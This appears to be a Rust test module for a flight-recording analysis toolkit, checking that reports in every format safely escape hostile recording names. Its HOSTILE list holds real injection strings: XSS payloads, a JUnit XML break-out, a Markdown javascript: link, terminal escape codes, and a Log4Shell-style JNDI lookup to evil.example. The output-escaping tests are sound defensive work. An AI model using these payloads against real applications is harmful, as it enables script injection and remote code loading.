//! Reports in all formats: of real recordings, and with names that try to break out.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing, clippy::panic)]

mod catalog;
mod hard;
mod json;
mod junit;
mod markdown;
mod sarif;
mod secrets;
mod text;
mod verdicts;

use std::path::{Path, PathBuf};
use std::sync::LazyLock;

use jfr_analyzers::events::{Facts, Needs};
use jfr_analyzers::rule::{
    Analysis, AnalysisOptions, Category, Evidence, Frame, MethodRow, Report, Rule, RuleInfo, Settings, Value, Verdict,
};
use jfr_parse::Recording;
use jfrkit_reports::{Entry, Format, Style};

/// The root of the repository.
fn root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("..")
}

fn analyze(analysis: &Analysis, path: &str, rules: &[&str]) -> Report {
    let recording = Recording::open(root().join(path)).unwrap();
    let mut options = AnalysisOptions::default();
    options.rules = rules.iter().map(|id| (*id).to_owned()).collect();
    analysis.evaluate(&recording, &options).unwrap()
}

/// The names of all recordings of this repository.
fn names() -> Vec<String> {
    let mut names = Vec::new();
    // Those with a known problem come before those with a known load, so that examples are taken from them.
    for folder in ["fixtures", "fixtures/scenarios", "fixtures/metrics"] {
        let files = std::fs::read_dir(root().join(folder)).unwrap();
        let mut files: Vec<String> = files.map(|file| file.unwrap().file_name().into_string().unwrap()).collect();
        files.retain(|name| name.ends_with(".jfr") || name.ends_with(".jfr.gz"));
        files.sort();
        names.extend(files.into_iter().map(|name| format!("{folder}/{name}")));
    }
    names
}

/// All recordings of this repository with their reports.
fn fixtures() -> &'static [(String, Report)] {
    static ALL: LazyLock<Vec<(String, Report)>> = LazyLock::new(|| {
        let analysis = jfrkit_rules::analysis();
        names().into_iter().map(|name| (name.clone(), analyze(&analysis, &name, &[]))).collect()
    });
    assert!(ALL.len() > 20, "{}", ALL.len());
    &ALL
}

fn fixture(name: &str) -> &'static Report {
    &fixtures().iter().find(|(known, _)| known.contains(name)).expect("a fixture of this name").1
}

/// All fixtures, and one unreadable recording.
fn all_entries() -> Vec<Entry<'static>> {
    let mut entries: Vec<Entry<'_>> = fixtures().iter().map(|(name, report)| Entry::new(name, report)).collect();
    entries.push(Entry::failed("broken.jfr", "offset 0: not a flight recording"));
    entries
}

fn write(format: Format, entries: &[Entry<'_>], style: &Style) -> String {
    let mut out = Vec::new();
    format.write(&mut out, entries, style).unwrap();
    String::from_utf8(out).unwrap()
}

fn written(format: Format, entries: &[Entry<'_>]) -> String {
    write(format, entries, &Style::default())
}

/// Malicious names, each with a harmless counterpart.
const HOSTILE: &[(&str, &str)] = &[
    ("<script>alert(1)</script>", "a"),
    ("\"><img src=x onerror=alert(1)>", "b"),
    ("' autofocus onfocus='alert(1)", "c"),
    ("]]></failure><testcase name=\"x\"/><!--", "d"),
    ("&lt;b&gt; &amp; &#60;i&#62;", "e"),
    ("| x | [click](javascript:alert(1)) ![i](http://evil.example/i.png) `code` **bold** # h", "f"),
    ("line\nbreak\r\n# heading\n\n| a | b |\n---", "g"),
    ("\u{1b}[31mred\u{1b}[0m \u{7} \u{202e}right to left\u{200b}", "h"),
    ("</style><style>*{display:none}</style>", "i"),
    ("{\"json\": \"\\u0000\"} \\\" \u{0} \u{fffe}", "j"),
    ("@everyone see https://evil.example/ and <https://evil.example/>", "k"),
    ("${jndi:ldap://evil.example/a} %s %n {{7*7}}", "l"),
];

/// A rule whose verdict contains the given names in every place that a recording can influence.
struct Quoting {
    names: Vec<&'static str>,
}

impl Quoting {
    fn hostile() -> Self {
        Self { names: HOSTILE.iter().map(|(name, _)| *name).collect() }
    }

    fn harmless() -> Self {
        Self { names: HOSTILE.iter().map(|(_, name)| *name).collect() }
    }

    fn evidence(&self) -> Evidence {
        let mut evidence = Evidence::default();
        for name in &self.names {
            evidence.push(*name, Value::text(*name));
        }
        let frame = |name: &&str| Frame { method: (*name).to_owned(), line: Some(7) };
        let text = |name: &&str| Value::text(*name);
        evidence.push("window", Value::window(1_795_000_000_000_000_000, 1_795_000_001_000_000_000));
        evidence.push("stack", Value::Stack { frames: self.names.iter().map(frame).collect() });
        evidence.push("list", Value::list("names", self.names.iter().map(|n| (*n).to_owned())));
        evidence.push("table", Value::table(["name", "again"], self.names.iter().map(|n| [text(n), text(n)])));
        let rows = self.names.iter().map(|name| MethodRow {
            method: frame(name),
            application_frame: Some(frame(name)),
            value: Box::new(Value::nanos(5)),
            percent: 50.0,
        });
        evidence.push("methods", Value::Methods { rows: rows.collect() });
        evidence
    }
}

impl Rule for Quoting {
    fn info(&self) -> RuleInfo {
        RuleInfo::own("Quoting").title("Quoting").category(Category::Jvm).description("Quotes")
    }

    fn needs(&self) -> Needs {
        Needs::new()
    }

    fn evaluate(&self, _: &Facts, _: &Settings) -> Verdict {
        let all = self.names.join(" ");
        let mut verdict = Verdict::warning(all.clone()).score(80.0).explain(all.clone()).remedy(all);
        verdict.evidence = self.evidence();
        verdict
    }
}

/// A rule that fails.
struct Failing;

impl Rule for Failing {
    fn info(&self) -> RuleInfo {
        RuleInfo::own("Failing").title("Failing").description("Fails")
    }

    fn needs(&self) -> Needs {
        Needs::new()
    }

    fn evaluate(&self, _: &Facts, _: &Settings) -> Verdict {
        panic!("on purpose <b>&")
    }
}

/// The report of a rule that quotes names, next to one that fails.
fn quoting(rule: Quoting) -> Report {
    let analysis = jfrkit_rules::analysis().with_rule(rule).unwrap().with_rule(Failing).unwrap();
    let mut report = analyze(&analysis, "fixtures/jdk17-full.jfr", &["Quoting", "Failing", "FullGc", "PID1Rule"]);
    let quoted: Vec<String> =
        report.outcome("Quoting").unwrap().verdict.evidence.iter().map(|(k, _)| k.to_owned()).collect();
    report.recording.notes = quoted.clone();
    report.recording.warnings = quoted;
    report
}

fn hostile() -> &'static Report {
    static REPORT: LazyLock<Report> = LazyLock::new(|| quoting(Quoting::hostile()));
    &REPORT
}

fn harmless() -> &'static Report {
    static REPORT: LazyLock<Report> = LazyLock::new(|| quoting(Quoting::harmless()));
    &REPORT
}

/// Several entries, so that the overview quotes the names too.
fn hostile_entries() -> Vec<Entry<'static>> {
    let mut entries: Vec<Entry<'_>> = HOSTILE.iter().map(|(name, _)| Entry::new(name, hostile())).collect();
    entries.extend(HOSTILE.iter().map(|(name, _)| Entry::failed(name, name)));
    entries
}

fn harmless_entries() -> Vec<Entry<'static>> {
    let mut entries: Vec<Entry<'_>> = HOSTILE.iter().map(|(_, name)| Entry::new(name, harmless())).collect();
    entries.extend(HOSTILE.iter().map(|(_, name)| Entry::failed(name, name)));
    entries
}
